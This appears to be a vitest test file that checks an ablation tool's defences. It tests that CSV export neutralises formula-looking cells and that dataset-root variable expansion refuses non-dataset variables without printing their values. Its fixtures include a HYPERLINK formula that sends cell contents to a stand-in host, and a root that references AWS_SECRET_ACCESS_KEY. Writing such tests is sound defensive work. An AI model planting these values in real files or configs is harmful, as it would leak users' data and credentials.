import { describe, expect, it } from 'vitest';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { tempDir } from '../helpers/tmp.js';
import { runSim, simSweep } from '../exec/sim-helpers.js';
import { runCli } from '../helpers/cli.js';
import { resolveRoot } from '../../src/config/dataset-roots.js';
import { toCsv } from '../../src/util/csv.js';

/** Issue 15, item 8: CSV formula injection, and ${VAR} in dataset roots expanding any variable. */
describe('CSV export', () => {
  it('guards text cells a spreadsheet would run as formulas, and leaves numbers alone', () => {
    const rows = parse(toCsv([['a', 'b', 'c', 'd', 'e', 'f'], ['=1+2', '+SUM(A1)', '-2+3', '@cmd', '-0.25', '1e-3']])) as string[][];
    expect(rows[1]).toEqual(["'=1+2", "'+SUM(A1)", "'-2+3", "'@cmd", '-0.25', '1e-3']);
  });

  it('`ablate export --format csv` writes a formula-looking parameter guarded', () => {
    const dir = tempDir();
    const file = simSweep(dir);
    const sweep = JSON.parse(readFileSync(file, 'utf8')) as { grid: Record<string, unknown> };
    const hostile = '=HYPERLINK("http://example.invalid/?"&A1,"open")';
    writeFileSync(file, JSON.stringify({ ...sweep, seeds: [0], include: [], grid: { 'data.datasets.synth.root': [hostile, 'ABLATE_DATA_x'] } }));
    const results = join(dir, 'results');
    expect(runSim(['run', file, '--results', results]).status).toBe(0);
    const csv = runSim(['export', 'sim', '--results', results]).stdout;
    const cells = (parse(csv, { columns: true }) as Array<Record<string, string>>).map((r) => r['data.datasets.synth.root']);
    expect(cells).toContain(`'${hostile}`);
    expect(cells).not.toContain(hostile);
    // JSON keeps the value as it is: it is data, not a spreadsheet.
    expect(runSim(['export', 'sim', '--results', results, '--format', 'json']).stdout).toContain(JSON.stringify(hostile).slice(1, -1));
  });
});

describe('${VAR} in dataset roots', () => {
  const secret = 'hunter2-do-not-print';

  it('refuses a variable that is not a dataset variable when the sweep is read, without its value', () => {
    const dir = tempDir();
    const file = simSweep(dir);
    const sweep = JSON.parse(readFileSync(file, 'utf8')) as { base: { data: { datasets: Record<string, unknown> } } };
    sweep.base.data.datasets['mine'] = { adapter: 'csv', root: '${AWS_SECRET_ACCESS_KEY}/manifest.csv' };
    writeFileSync(file, JSON.stringify(sweep));
    const run = runCli(['plan', file], { env: { AWS_SECRET_ACCESS_KEY: secret } });
    expect(run.stderr).toContain('base.data.datasets.mine.root: ${AWS_SECRET_ACCESS_KEY} is not a dataset variable');
    expect(run.stderr + run.stdout).not.toContain(secret);
    expect(run.status).toBe(2);
  });

  it('expands only dataset variables: the paper ones, ABLATE_DATA_*, and those the config names', () => {
    const dir = tempDir();
    const config = join(dir, 'ablate.config.json');
    writeFileSync(config, JSON.stringify({ paths: { MY_CORPUS: '/data/corpus' } }));
    const saved = { ...process.env };
    try {
      Object.assign(process.env, { ABLATE_CONFIG: config, HOME_SECRET: secret, ASVSPOOF5: '/data/asv5', ABLATE_DATA_MINE: '/data/mine' });
      expect(resolveRoot('${ASVSPOOF5}/flac', 'a')).toBe('/data/asv5/flac');
      expect(resolveRoot('${ABLATE_DATA_MINE}', 'b')).toBe('/data/mine');
      expect(resolveRoot('${MY_CORPUS}/x', 'c')).toBe('/data/corpus/x');
      let message = '';
      try {
        resolveRoot('${HOME_SECRET}/x', 'd');
      } catch (error) {
        message = (error as Error).message;
      }
      expect(message).toContain('dataset "d": its root "${HOME_SECRET}/x": ${HOME_SECRET} is not a dataset variable');
      expect(message).not.toContain(secret);
    } finally {
      for (const key of ['ABLATE_CONFIG', 'HOME_SECRET', 'ASVSPOOF5', 'ABLATE_DATA_MINE']) delete process.env[key];
      Object.assign(process.env, saved);
    }
  });
});
